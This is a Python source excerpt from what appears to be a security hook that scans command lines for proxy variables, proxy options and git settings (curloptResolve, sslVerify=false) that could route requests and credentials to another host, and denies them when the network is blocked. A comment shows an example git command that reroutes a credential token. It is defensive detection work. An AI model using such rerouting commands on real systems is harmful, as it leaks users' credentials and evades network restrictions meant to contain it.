# Class 3: a proxy named with a place: `NAME=URL`, `--proxy URL`, `http.proxy=URL`, `proxy URL`,
# `NAME=$P`. Matched from each `proxy` in the text within a bounded window, never backtracking
# over the line (linear in its length).
_NAME_TAIL = re.compile(r"[A-Za-z0-9_-]*")
# a proxy key names where requests go when it ends in `proxy` (HTTPS_PROXY, --https-proxy,
# http.proxy) or names its host, server or URL (Java's -Dhttp.proxyHost=H); nginx's
# `proxy_pass`, `proxy_set_header` … name a backend of a server, not this machine's requests
_PROXY_HOST_KEYS = ("proxyhost", "proxy_host", "proxy-host", "proxyserver", "proxy_server", "proxy-server",
                    "proxyurl", "proxy_url", "proxy-url")
_HOST_VALUE = re.compile(r"[\"']?\s*=\s*[\"']?[\w\[][\w.:\[\]-]*")
_PROXY_VALUE = re.compile(r"[\"']?\s*(?:=|:|\s)\s*[\"']?(?:[A-Za-z][A-Za-z0-9+.-]*://|[\w.-]+:\d|\[[0-9a-fA-F:]+\]|\$)")
_KEY_REVERSED = re.compile(r"[A-Za-z0-9_.:@/-]*")
_OWN_PROXY = re.compile(r"\{?[A-Za-z_][A-Za-z0-9_]*proxy\b", re.IGNORECASE)
# git's settings that send its requests to another host or accept any certificate (`git -c
# http.curloptResolve=github.com:443:127.0.0.1 -c http.sslVerify=false fetch`: the credential
# helper's token goes to whoever answers)
_GIT_ROUTE = re.compile(r"(sslverify|curloptresolve|sslcainfo|sslcapath|proxysslcainfo|sslbackend)=",
                        re.IGNORECASE)
_WINDOW = 200


def _word_before(command, at):
    """The run of name characters (`A-Za-z0-9_.:@/-`) that ends at `at`, at most _WINDOW long."""
    return _KEY_REVERSED.match(command[max(0, at - _WINDOW):at][::-1]).group(0)[::-1]


def check_proxies(policy, command):
    """A command line that names a proxy (a variable, an option, a setting) at some place: every
    request of the programs it runs would go through it; or git's settings that route its
    requests elsewhere or accept any certificate."""
    from legant_guard.hook.sinkrules import denies_network

    if not denies_network(policy):
        return None
    for m in re.finditer("proxy", command, re.IGNORECASE):
        end = _NAME_TAIL.match(command, m.end(), m.end() + _WINDOW).end()
        key = (_word_before(command, m.start()) + command[m.start():end]).lower()
        key = key.rsplit("/", 1)[-1].rsplit(".", 1)[-1].lstrip("-")
        if key.startswith("no") or not (key.endswith("proxy") or key.endswith(_PROXY_HOST_KEYS)):
            continue  # (no_proxy only bypasses one; GIT_PROXY_COMMAND is an exec sink, judged as such)
        value = (_HOST_VALUE if key.endswith(_PROXY_HOST_KEYS) else _PROXY_VALUE).match(command, end, end + _WINDOW)
        if value is None or value.group(0).endswith("$") and _OWN_PROXY.match(command, value.end(), value.end() + 80):
            continue  # (`HTTPS_PROXY=$HTTPS_PROXY`, `echo "https_proxy: $https_proxy"`: the user's own value)
        head = _word_before(command, m.start())
        shown = command[m.start() - len(head):value.end()] + command[value.end():value.end() + 40].split(" ")[0]
        return deny(f"the command names a proxy (`{shown[:100]}`), through which the programs it runs "
                    f"would send every request, credentials included, {_EXFIL}; use the user's own network settings",
                    "network")
    for m in _GIT_ROUTE.finditer(command) if "http." in command else ():
        head = _word_before(command, m.start())
        if "http." in head.lower():
            return deny(f"the command sets git's `{(head + m.group(1))[-80:]}`, which sends its requests (the "
                        f"credential helper's token included) to another host or to whoever answers, {_EXFIL}",
                        "network")
    return None
